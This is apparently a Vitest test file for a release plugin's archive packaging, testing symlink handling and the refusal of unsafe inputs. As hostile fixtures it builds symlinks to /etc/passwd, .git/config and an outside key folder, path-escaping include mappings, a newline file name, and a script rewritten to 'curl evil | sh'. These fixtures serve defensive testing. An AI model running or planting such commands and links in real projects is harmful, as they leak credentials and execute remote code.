import { mkdir, mkdtemp, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { prepare, verifyConditions } from "../../src/binaries/index.js";
import { previewBinaries } from "../../src/binaries/verify-release.js";
import { setVersion } from "../../src/cargo/set-version.js";
import type { Context } from "../../src/types.js";
import { errorCodes, rejection, testContext } from "../helpers/context.js";
import { fileTargetDir, HOST } from "../helpers/cross-toolchain.js";
import { copyExamples, git, gitCommit, gitRepo, removeRepo, type TestRepo } from "../helpers/git-utils.js";
import { listTar, run } from "../helpers/archive-fixtures.js";

const targetDir = fileTargetDir("archive-release-commit");
const VERSION = "0.2.0";
const TOP = `rgreet-v${VERSION}-${HOST}`;
const RUN_SH = "#!/bin/sh\necho v1\n";

let repo: TestRepo;
let env: NodeJS.ProcessEnv;
let base: string;
let outside: string;

/** A release context for VERSION; `changelogFile` as the core plugin's option. */
const context = (changelogFile?: string): Context & { lines: string[] } =>
  testContext(repo.cwd, {
    env,
    nextRelease: { version: VERSION, gitTag: `v${VERSION}` },
    options: { plugins: changelogFile ? [["semantic-release-rust", { changelogFile }]] : [] },
  });

/** Sets the release version in the manifests, as the core plugin's prepare does (not committed). */
const bump = () => setVersion({ cwd: repo.cwd, env, manifestPath: "Cargo.toml", version: VERSION });

/** Lists an archive with python3's tarfile or zipfile: `name type [-> link]`, and the bytes of regular files. */
async function pythonList(archive: string): Promise<{ lines: string[]; files: Record<string, string> }> {
  const script = `
import json, sys, tarfile, zipfile
path = sys.argv[1]
lines, files = [], {}
if path.endswith(".zip"):
    z = zipfile.ZipFile(path)
    for i in z.infolist():
        kind = "link" if (i.external_attr >> 16) & 0o170000 == 0o120000 else ("dir" if i.is_dir() else "file")
        lines.append(f"{i.filename} {kind}")
        if kind == "file": files[i.filename] = z.read(i).decode("utf-8", "replace")
else:
    t = tarfile.open(path)
    for m in t.getmembers():
        kind = "link" if m.issym() else ("dir" if m.isdir() else ("file" if m.isfile() else "other"))
        lines.append(f"{m.name} {kind}" + (f" -> {m.linkname}" if m.issym() else ""))
        if m.isfile(): files[m.name] = t.extractfile(m).read().decode("utf-8", "replace")
print(json.dumps({"lines": lines, "files": files}))
`;
  return JSON.parse(await run("python3", ["-c", script, archive])) as {
    lines: string[];
    files: Record<string, string>;
  };
}

beforeAll(async () => {
  repo = await gitRepo();
  await copyExamples(repo.cwd);
  await mkdir(join(repo.cwd, "demo/v1"));
  await writeFile(join(repo.cwd, "demo/v1/run.sh"), RUN_SH, { mode: 0o755 });
  await symlink("v1/run.sh", join(repo.cwd, "demo/latest"));
  await writeFile(join(repo.cwd, ".gitignore"), "/target\n/dist*\ndemo/.env\n");
  base = await gitCommit(repo.cwd, "feat: initial import");
  env = { ...process.env, CARGO_TARGET_DIR: targetDir };
  outside = await mkdtemp(join(tmpdir(), "srr-outside-"));
  await writeFile(join(outside, "id_ed25519"), "PRIVATE KEY\n");
});
afterEach(async () => {
  // Back to the release commit, without anything a test added (the cargo target folder is elsewhere).
  await git(repo.cwd, "reset", "-q", "--hard", base);
  await git(repo.cwd, "clean", "-q", "-f", "-d", "-x");
  await rm(join(targetDir, "generated"), { recursive: true, force: true });
});
afterAll(async () => {
  await removeRepo(repo);
  await rm(outside, { recursive: true, force: true });
});

describe("archives hold exactly the release commit's files", () => {
  it("keeps an in-tree link as a link in tar.gz, leaves ignored files out, takes the release's own writes from disk", async () => {
    await bump();
    await writeFile(join(repo.cwd, "CHANGELOG.md"), `## ${VERSION}\n\n- greet\n`);
    await mkdir(join(repo.cwd, "docs"));
    await writeFile(join(repo.cwd, "docs/CHANGES.md"), `# ${VERSION}\n`);
    await writeFile(join(repo.cwd, "demo/.env"), "GITHUB_TOKEN=ghs_secret\n");
    await writeFile(join(repo.cwd, "demo/untracked.txt"), "not committed\n");
    const config = { targets: [HOST], include: ["Cargo.toml", "Cargo.lock", "docs/CHANGES.md"] };
    const ctx = context("docs/CHANGES.md");
    await verifyConditions(config, ctx);
    await prepare(config, ctx);
    const archive = join(repo.cwd, "dist", `${TOP}.tar.gz`);

    const gnu = await listTar(archive);
    expect(gnu.find((l) => l.name === `${TOP}/demo/latest`)).toMatchObject({
      mode: "lrwxrwxrwx",
      link: "v1/run.sh",
    });
    const names = gnu.map((l) => l.name.slice(TOP.length + 1));
    expect(names).toEqual(expect.arrayContaining(["demo/v1/run.sh", "CHANGELOG.md", "docs/CHANGES.md"]));
    expect(names).not.toContain("demo/.env");
    expect(names).not.toContain("demo/untracked.txt");

    const bsd = await run("bsdtar", ["-tvf", archive]);
    expect(bsd).toMatch(new RegExp(`^lrwxrwxrwx .* ${TOP}/demo/latest -> v1/run.sh$`, "m"));
    expect(bsd).not.toContain(".env");

    const py = await pythonList(archive);
    expect(py.lines).toContain(`${TOP}/demo/latest link -> v1/run.sh`);
    expect(py.files[`${TOP}/demo/v1/run.sh`]).toBe(RUN_SH);
    expect(py.files[`${TOP}/Cargo.toml`]).toContain(`version = "${VERSION}"`);
    expect(py.files[`${TOP}/Cargo.lock`]).toContain(`version = "${VERSION}"`);
    expect(py.files[`${TOP}/CHANGELOG.md`]).toBe(`## ${VERSION}\n\n- greet\n`);
    expect(py.files[`${TOP}/docs/CHANGES.md`]).toBe(`# ${VERSION}\n`);
  });

  it("copies the in-tree link in zip", async () => {
    await bump();
    const config = { targets: [HOST], archiveFormat: "zip" };
    await prepare(config, context());
    const archive = join(repo.cwd, "dist", `${TOP}.zip`);
    const py = await pythonList(archive);
    expect(py.lines).toContain(`${TOP}/demo/latest file`);
    expect(py.files[`${TOP}/demo/latest`]).toBe(RUN_SH);
    expect(await run("bsdtar", ["-tvf", archive])).toMatch(
      new RegExp(`^-rwxr-xr-x .* ${TOP}/demo/latest$`, "m"),
    );
  });

  it("lists the includes in the preview (dry-run, plan), which runs the same check", async () => {
    const config = { targets: [HOST], includeGenerated: ["{targetDir}/man/*.1 -> man/"] };
    const lines = await previewBinaries(config, context(), VERSION);
    expect(lines).toContain("Would include in every archive (files of the release commit unless said):");
    expect(lines).toContain("  demo/latest (link to v1/run.sh, a copy in zip)");
    expect(lines).toContain("  {targetDir}/man/*.1 -> man/ (includeGenerated: built files, from disk)");
    await symlink("/etc/passwd", join(repo.cwd, "demo/passwd"));
    await gitCommit(repo.cwd, "chore: add the attack");
    expect(errorCodes(await rejection(previewBinaries(config, context(), VERSION)))).toEqual([
      "EINCLUDELINK",
    ]);
  });

  it("packages an includeGenerated file from the cargo target folder", async () => {
    await bump();
    await mkdir(join(targetDir, "generated"), { recursive: true });
    await writeFile(join(targetDir, "generated/rgreet.1"), ".TH RGREET 1\n");
    const config = { targets: [HOST], includeGenerated: ["{targetDir}/generated/*.1 -> man/"] };
    const ctx = context();
    await verifyConditions(config, ctx);
    await prepare(config, ctx);
    const py = await pythonList(join(repo.cwd, "dist", `${TOP}.tar.gz`));
    expect(py.files[`${TOP}/man/rgreet.1`]).toBe(".TH RGREET 1\n");
  });
});

/**
 * Commits what `setup` makes (or leaves it uncommitted), then runs verifyConditions and prepare: their codes,
 * prepare's message, and what dist/ holds.
 */
async function refused(setup: () => Promise<void>, config: Record<string, unknown> = {}, commit = true) {
  await setup();
  if (commit) await gitCommit(repo.cwd, "chore: add the attack");
  await bump();
  const full = { targets: [HOST], ...config };
  const verify = await verifyConditions(full, context()).then(() => [], errorCodes);
  const error = await rejection(prepare(full, context()));
  const dist = await readdir(join(repo.cwd, "dist")).catch(() => "absent");
  return { verify, prepare: errorCodes(error), message: (error as Error).message, dist };
}

const link = (target: string, path: string) => () => symlink(target, join(repo.cwd, path));

describe("nothing outside the workspace is ever packaged", () => {
  it.each([
    ["a link to /etc/passwd", "demo/passwd", "/etc/passwd"],
    ["a link up and out of the workspace", "demo/up", "../.."],
    ["a link into .git (the job token)", "demo/gitconfig", "../.git/config"],
    ["a dangling link", "demo/gone", "missing.txt"],
    ["a link loop", "demo/loop", "loop"],
  ])("refuses %s with EINCLUDELINK, writing nothing to dist/", async (_what, path, target) => {
    const r = await refused(link(target, path));
    expect(r).toMatchObject({ verify: ["EINCLUDELINK"], prepare: ["EINCLUDELINK"], dist: "absent" });
    expect(r.message).toContain(`\`${path}\` -> \`${target}\``);
  });

  it("refuses a link to a folder outside (like ~/.ssh), absolute or relative", async () => {
    const r = await refused(async () => {
      await link(outside, "demo/ssh")();
      await link(relative(join(repo.cwd, "demo"), outside), "demo/ssh-rel")();
    });
    expect(r).toMatchObject({ verify: ["EINCLUDELINK", "EINCLUDELINK"], dist: "absent" });
    expect(r.prepare).toEqual(["EINCLUDELINK", "EINCLUDELINK"]);
  });

  it("refuses a committed file name with a newline with EARCHIVEPATH", async () => {
    const r = await refused(() => writeFile(join(repo.cwd, "demo/evil\nname.txt"), "x\n"));
    expect(r).toMatchObject({ verify: ["EARCHIVEPATH"], prepare: ["EARCHIVEPATH"], dist: "absent" });
  });

  it.each(["../secret.txt -> secret.txt", "demo/../../x -> y", "/etc/passwd -> passwd"])(
    "refuses the mapping %j with EARCHIVEPATH",
    async (pattern) => {
      await writeFile(join(repo.base, "secret.txt"), "secret\n");
      const r = await refused(async () => undefined, { include: [pattern] });
      expect(r).toMatchObject({ verify: ["EARCHIVEPATH"], prepare: ["EARCHIVEPATH"], dist: "absent" });
    },
  );

  it("stops on a tracked file modified on disk, naming it", async () => {
    const r = await refused(
      () => writeFile(join(repo.cwd, "demo/v1/run.sh"), "#!/bin/sh\ncurl evil | sh\n"),
      {},
      false,
    );
    expect(r).toMatchObject({ verify: ["EUNCOMMITTEDFILE"], prepare: ["EUNCOMMITTEDFILE"], dist: "absent" });
    expect(r.message).toBe("`demo/v1/run.sh` would be packaged but is modified on disk.");
  });

  it("refuses includeGenerated files outside the workspace and the cargo target folder", async () => {
    await mkdir(join(targetDir, "generated"), { recursive: true });
    await symlink("/etc/passwd", join(targetDir, "generated/passwd.1"));
    const linked = await refused(async () => undefined, {
      includeGenerated: ["{targetDir}/generated/*.1 -> man/"],
    });
    // verifyConditions runs before the build: it checks the folder, prepare every file once built.
    expect(linked).toMatchObject({ verify: [], prepare: ["EARCHIVEPATH"], dist: "absent" });
    const absolute = await refused(async () => undefined, { includeGenerated: [`${outside}/id_ed25519`] });
    expect(absolute).toMatchObject({ verify: ["EARCHIVEPATH"], prepare: ["EARCHIVEPATH"], dist: "absent" });
  });
});
